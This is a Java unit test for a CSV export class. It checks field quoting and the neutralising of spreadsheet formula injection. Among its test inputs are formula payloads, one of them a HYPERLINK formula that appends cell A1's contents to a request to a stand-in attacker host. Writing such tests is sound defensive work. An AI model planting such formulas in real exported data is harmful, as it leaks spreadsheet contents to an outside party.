package io.millrace.server.admin.http;

import static org.assertj.core.api.Assertions.assertThat;

import java.time.Instant;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class CsvTest {
    private static final String HEAD = "name\r\n";

    @Test
    void shouldQuoteWhatWouldEndAFieldOrALine() {
        assertThat(new Csv("name", "count")
                        .row("a, b", 1)
                        .row("say \"hi\"", 2)
                        .row("two\r\nlines", 3)
                        .row(null, 4)
                        .row("", 5))
                .hasToString("name,count\r\n\"a, b\",1\r\n\"say \"\"hi\"\"\",2\r\n\"two\r\nlines\",3\r\n,4\r\n,5\r\n");
    }

    @ParameterizedTest
    @ValueSource(strings = {"=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\uFF1D1+1", "=", "-"})
    void shouldLeaveNoTextThatASpreadsheetTakesForAFormula(final String name) {
        assertThat(new Csv("name").row(name)).hasToString(HEAD + "'" + name + "\r\n");
    }

    @ParameterizedTest
    @ValueSource(strings = {"=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "\r=1", "\n=1", "-1,5"})
    void shouldQuoteItBesidesWhereThatIsNeeded(final String name) {
        assertThat(new Csv("name").row(name)).hasToString(HEAD + "\"'" + name.replace("\"", "\"\"") + "\"\r\n");
    }

    @ParameterizedTest
    @ValueSource(strings = {"a=1", " =1", "'=1", "buy", "1-1", "user@host.example"})
    void shouldLeaveOtherTextAlone(final String name) {
        assertThat(new Csv("name").row(name)).hasToString(HEAD + name + "\r\n");
    }

    @Test
    void shouldLeaveNumbersAndTimesAlone() {
        assertThat(new Csv("a", "b", "c").row(-1L, -0.5, Instant.parse("-0001-01-01T00:00:00Z")))
                .hasToString("a,b,c\r\n-1,-0.5,-0001-01-01T00:00:00Z\r\n");
    }
}
